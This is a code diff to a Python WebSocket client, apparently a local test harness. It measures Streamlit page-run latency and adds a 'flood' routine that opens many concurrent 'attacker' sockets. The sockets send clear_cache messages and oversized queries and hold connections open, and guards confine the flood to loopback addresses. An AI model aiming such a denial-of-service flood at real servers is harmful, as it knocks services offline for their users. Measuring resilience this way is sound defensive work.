@@ -24,6 +24,8 @@ def open_session(base_url: str, *, source: str = LOOPBACK, timeout_s: float = 20
     if not host.startswith("127.") or not source.startswith("127."):
         raise ValueError("loopback only")
     sock = socket.create_connection((host, port), timeout=timeout_s, source_address=(source, 0))
+    # As browsers do: without it a run's small messages wait for delayed ACKs (~40 ms a run on loopback).
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     return connect(
         f"ws://{host}:{port}/_stcore/stream",
         sock=sock,
@@ -77,6 +79,9 @@ def run_page(ws: ClientConnection, query_string: str = "", page_name: str = "", 
     ws.send(rerun_message(query_string, page_name))
     run = Run(0.0, False)
     while (left := timeout_s - (time.monotonic() - start)) > 0:
+        # Acknowledge at once (Linux resets this after each ACK): otherwise the server's next small
+        # message can wait out the 40 ms delayed ACK, which an idle loopback shows and a busy one hides.
+        ws.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
         try:
             data = ws.recv(timeout=left)
         except TimeoutError:
@@ -95,11 +100,85 @@ def run_page(ws: ClientConnection, query_string: str = "", page_name: str = "", 
     return run
 
 
-def page_run_seconds(base_url: str, query_string: str = "", page_name: str = "", timeout_s: float = 60) -> float:
+def page_run_seconds(
+    base_url: str, query_string: str = "", page_name: str = "", timeout_s: float = 60, source: str = LOOPBACK
+) -> float:
     """A fresh session's first page run, from connecting to the script's end (the victim's view)."""
     start = time.monotonic()
-    with open_session(base_url, timeout_s=timeout_s) as ws:
+    with open_session(base_url, source=source, timeout_s=timeout_s) as ws:
         run = run_page(ws, query_string, page_name, timeout_s)
     if not run.finished:
         raise TimeoutError(f"no finished run within {timeout_s} s")
     return time.monotonic() - start
+
+
+async def _flood_one(url: str, source: str, hold_s: float, clears: int, query: str, outcomes: list[str]) -> None:
+    """One attacker socket: `clears` clear_cache messages, then a page run with `query`, held open."""
+    import asyncio
+
+    from websockets.asyncio.client import connect as aconnect
+
+    parts = urlsplit(url)
+    try:
+        async with aconnect(
+            f"ws://{parts.netloc}/_stcore/stream",
+            subprotocols=["streamlit"],  # type: ignore[list-item]
+            origin=f"{parts.scheme}://{parts.netloc}",  # type: ignore[arg-type]
+            max_size=None,
+            compression=None,
+            open_timeout=60,
+            proxy=None,
+            local_addr=(source, 0),
+        ) as ws:
+            for _ in range(clears):
+                await ws.send(clear_cache_message())
+            await ws.send(rerun_message(query))
+            while True:
+                data = await asyncio.wait_for(ws.recv(), 120)
+                if isinstance(data, bytes):
+                    msg = ForwardMsg()
+                    msg.ParseFromString(data)
+                    if msg.WhichOneof("type") == "script_finished":
+                        outcomes.append("finished")
+                        break
+            await asyncio.sleep(hold_s)
+    except Exception as e:  # refused (403), closed or timed out: each counted by its kind
+        outcomes.append(type(e).__name__)
+
+
+def flood(
+    url: str, sockets: int, source: str = "127.0.0.2", hold_s: float = 10, clears: int = 0, query: str = ""
+) -> dict[str, int]:
+    """`sockets` connections opened at once from `source` on one thread (a cheap attacker: no thread
+    or browser per socket), each asking for a page run; how each ended, counted (a socket refused
+    at the handshake is `InvalidStatus`, one closed for a too-large message `ConnectionClosedError`)."""
+    import asyncio
+    from collections import Counter
+
+    if (
+        not urlsplit(url).hostname
+        or not str(urlsplit(url).hostname).startswith("127.")
+        or not source.startswith("127.")
+    ):
+        raise ValueError("loopback only")
+
+    async def all_of_them() -> list[str]:
+        outcomes: list[str] = []
+        await asyncio.gather(*(_flood_one(url, source, hold_s, clears, query, outcomes) for _ in range(sockets)))
+        return outcomes
+
+    return dict(Counter(asyncio.run(all_of_them())))
+
+
+if __name__ == "__main__":  # python -m tools.wsclient URL SOCKETS [HOLD_S [CLEARS [QUERY_BYTES]]]: outcomes as JSON
+    import json
+    import sys
+
+    url, sockets, *rest = sys.argv[1:]
+    hold, clears, query_bytes = (
+        (float(rest[0]) if rest else 10),
+        int(rest[1]) if len(rest) > 1 else 0,
+        int(rest[2]) if len(rest) > 2 else 0,
+    )
+    query = "date=" + "1" * query_bytes if query_bytes else ""
+    print(json.dumps(flood(url, int(sockets), hold_s=hold, clears=clears, query=query)))
